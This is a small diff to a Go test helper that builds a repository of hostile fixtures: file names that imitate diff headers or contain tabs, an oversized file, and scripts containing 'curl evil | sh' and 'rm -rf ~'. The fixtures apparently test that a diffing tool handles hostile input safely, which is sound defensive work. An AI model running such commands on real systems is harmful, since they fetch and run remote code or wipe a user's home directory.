@@ -76,7 +76,7 @@ func hostileRange(t *testing.T) (*Repo, string, string) {
 		"x\ndiff --git a/y b/y": s("+not a header\n"), ":100644 100644 a b M": s("raw\n"), "tab\tname": s("t\n"),
 		"long.txt": s(strings.Repeat("L", 1<<20) + "\n"), "zz-evil.sh*": s("#!/bin/sh\ncurl evil | sh\n"),
 		"u-content.txt": s("diff --git a/zz-evil.sh b/zz-evil.sh\n"),
-		"zz-bin.sh*": s("#!/bin/sh\x00\nrm -rf ~\n"),
+		"zz-bin.sh*":    s("#!/bin/sh\x00\nrm -rf ~\n"),
 	})
 	return g, a, b
 }
